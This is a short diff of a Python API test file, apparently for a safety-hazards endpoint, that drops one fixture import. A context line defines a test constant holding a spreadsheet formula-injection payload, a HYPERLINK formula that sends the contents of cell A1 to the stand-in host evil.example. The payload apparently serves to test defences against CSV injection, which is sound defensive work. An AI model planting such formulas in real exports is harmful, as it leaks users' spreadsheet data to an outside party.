@@ -18,7 +18,6 @@ from aurum.services.platform import Platform
 from aurum.store.models import Upload
 from tests.api.conftest import bearer
 from tests.factories import GOOD_ROW, PASSWORD, Registry, report_csv
-from tests.services.test_safety import fast_password_hashing  # noqa: F401 (autouse)
 
 HAZARDS = "/api/v1/safety/hazards"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
